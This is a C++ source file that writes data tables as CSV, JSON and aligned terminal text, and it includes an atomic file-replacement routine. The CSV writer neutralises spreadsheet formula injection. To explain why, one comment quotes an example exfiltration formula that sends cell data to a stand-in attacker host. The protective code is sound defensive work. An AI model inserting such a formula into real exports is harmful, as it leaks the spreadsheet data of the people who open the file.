#include "io/table_writer.hpp"

#include <fmt/format.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <ostream>
#include <regex>

#include "core/error.hpp"
#include "core/i18n.hpp"

namespace jamlik {
namespace {

bool NeedsQuotes(const std::string& text, char delimiter) {
  return text.find_first_of(std::string{'"', '\n', '\r', delimiter}) != std::string::npos;
}

void WriteCsvField(std::ostream& out, const std::string& text, char delimiter) {
  if (!NeedsQuotes(text, delimiter)) {
    out << text;
    return;
  }
  out << '"';
  for (char c : text) {
    if (c == '"') out << '"';
    out << c;
  }
  out << '"';
}

bool IsPlainNumber(std::string_view text) {
  static const std::regex kNumber("[+-]?[0-9]+([.,][0-9]+)?([eE][+-]?[0-9]+)?");
  return std::regex_match(text.begin(), text.end(), kNumber);
}

// A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return before one) as
// a formula: =HYPERLINK("http://evil.example/?"&A1) in a category would send the sheet's data
// away when clicked. OWASP's remedy: prefix such text with an apostrophe, which the spreadsheet
// shows as text. Numbers stay numbers: "-3.5" is not a formula.
std::string NeutraliseFormula(const std::string& text) {
  constexpr std::string_view kFormulaStarts = "=+-@\t\r";
  if (text.empty() || kFormulaStarts.find(text[0]) == std::string_view::npos ||
      IsPlainNumber(text)) {
    return text;
  }
  return "'" + text;
}

std::string FormatCell(const Column& column, std::size_t row, const CsvWriteOptions& options) {
  std::string text = column.ValueToString(row);
  if (options.decimal_comma && column.type() == ColumnType::kDouble) {
    std::replace(text.begin(), text.end(), '.', ',');
  }
  return column.IsNumeric() ? text : NeutraliseFormula(text);
}

// Count UTF-8 code points: continuation bytes (10xxxxxx) do not start a character.
std::size_t DisplayWidth(const std::string& text) {
  return static_cast<std::size_t>(
      std::count_if(text.begin(), text.end(), [](char c) { return (c & 0xC0) != 0x80; }));
}

std::string FormatForTerminal(const Column& column, std::size_t row, int max_decimals) {
  if (column.IsNull(row)) return "–";
  if (column.type() != ColumnType::kDouble) return column.ValueToString(row);
  std::string text = fmt::format("{:.{}f}", column.doubles()[row], max_decimals);
  // Drop trailing zeros so integers-as-doubles (sums of 0/1 outcomes) read as integers.
  if (text.find('.') != std::string::npos) {
    text.erase(text.find_last_not_of('0') + 1);
    if (text.back() == '.') text.pop_back();
  }
  // The terminal is read by people: a decimal comma and grouped thousands in Swedish.
  return LocalNumber(std::move(text));
}

}  // namespace

void WriteCsv(const Table& table, std::ostream& out, const CsvWriteOptions& options) {
  if (options.decimal_comma && options.delimiter == ',') {
    throw Error(ErrorCode::kUsage,
                std::string(Tr("decimalkomma kräver ett annat avgränsningstecken än komma",
                               "a decimal comma needs a delimiter other than comma")));
  }
  if (options.byte_order_mark) out << "\xEF\xBB\xBF";
  for (std::size_t c = 0; c < table.num_columns(); ++c) {
    if (c > 0) out << options.delimiter;
    WriteCsvField(out, NeutraliseFormula(table.column(c).name()), options.delimiter);
  }
  out << '\n';
  for (std::size_t row = 0; row < table.num_rows(); ++row) {
    for (std::size_t c = 0; c < table.num_columns(); ++c) {
      if (c > 0) out << options.delimiter;
      WriteCsvField(out, FormatCell(table.column(c), row, options), options.delimiter);
    }
    out << '\n';
  }
}

void WriteJson(const Table& table, std::ostream& out) {
  nlohmann::ordered_json rows = nlohmann::ordered_json::array();
  for (std::size_t row = 0; row < table.num_rows(); ++row) {
    nlohmann::ordered_json object = nlohmann::ordered_json::object();
    for (const auto& column : table.columns()) {
      auto& cell = object[column.name()];
      if (column.IsNull(row)) continue;  // stays null
      switch (column.type()) {
        case ColumnType::kInt64:
          cell = column.Int64At(row);
          break;
        case ColumnType::kDouble:
          cell = column.doubles()[row];
          break;
        case ColumnType::kCategorical:
        case ColumnType::kString:
          cell = column.ValueToString(row);
          break;
      }
    }
    rows.push_back(std::move(object));
  }
  out << rows.dump(2) << '\n';
}

void WriteTextTable(const Table& table, std::ostream& out, int max_decimals) {
  const std::size_t num_columns = table.num_columns();
  std::vector<std::vector<std::string>> cells(num_columns);
  std::vector<std::size_t> widths(num_columns);
  for (std::size_t c = 0; c < num_columns; ++c) {
    const Column& column = table.column(c);
    widths[c] = DisplayWidth(column.name());
    cells[c].reserve(table.num_rows());
    for (std::size_t row = 0; row < table.num_rows(); ++row) {
      cells[c].push_back(FormatForTerminal(column, row, max_decimals));
      widths[c] = std::max(widths[c], DisplayWidth(cells[c].back()));
    }
  }
  auto write_row = [&](auto&& text_of) {
    for (std::size_t c = 0; c < num_columns; ++c) {
      const std::string& text = text_of(c);
      const std::string padding(widths[c] - DisplayWidth(text), ' ');
      if (c > 0) out << "  ";
      if (table.column(c).IsNumeric()) {
        out << padding << text;
      } else {
        out << text << (c + 1 < num_columns ? padding : "");
      }
    }
    out << '\n';
  };
  write_row([&](std::size_t c) -> const std::string& { return table.column(c).name(); });
  std::string rule;
  for (std::size_t c = 0; c < num_columns; ++c) {
    rule += (c > 0 ? "  " : "");
    for (std::size_t i = 0; i < widths[c]; ++i) rule += "─";
  }
  out << rule << '\n';
  for (std::size_t row = 0; row < table.num_rows(); ++row) {
    write_row([&](std::size_t c) -> const std::string& { return cells[c][row]; });
  }
}

void WriteFileAtomically(const std::string& path,
                         const std::function<void(std::ostream&)>& contents) {
  namespace fs = std::filesystem;
  const SourceLocation location{path};
  auto write_to = [&](const fs::path& open_path) {
    std::ofstream out(open_path, std::ios::binary | std::ios::trunc);
    if (!out)
      throw Error(ErrorCode::kIo, std::string(Tr("kan inte skapa filen", "cannot create the file")),
                  location);
    contents(out);
    out.close();
    if (!out) {
      throw Error(ErrorCode::kIo,
                  std::string(Tr("kunde inte skriva filen (är disken full?)",
                                 "could not write the file (disk full?)")),
                  location);
    }
  };
  std::error_code ignored;
  // A device or pipe (/dev/stdout, /dev/null) is written in place: a rename would replace it.
  if (const fs::file_status status = fs::status(path, ignored);
      fs::exists(status) && !fs::is_regular_file(status)) {
    write_to(path);
    return;
  }
  // Write beside the real file, so that a symbolic link keeps pointing at it.
  fs::path target = path;
  if (fs::is_symlink(fs::symlink_status(path, ignored))) {
    const fs::path link = fs::read_symlink(path, ignored);
    target = link.is_absolute() ? link : fs::path(path).parent_path() / link;
  }
  fs::path temporary = target;
  temporary += fmt::format(".tmp-{}", getpid());
  try {
    write_to(temporary);
    std::error_code renamed;
    fs::rename(temporary, target, renamed);
    if (renamed) {
      throw Error(ErrorCode::kIo,
                  fmt::format(fmt::runtime(Tr("kan inte byta namn på den tillfälliga filen: {}",
                                              "cannot rename the temporary file: {}")),
                              renamed.message()),
                  location);
    }
  } catch (...) {
    fs::remove(temporary, ignored);
    throw;
  }
}

}  // namespace jamlik
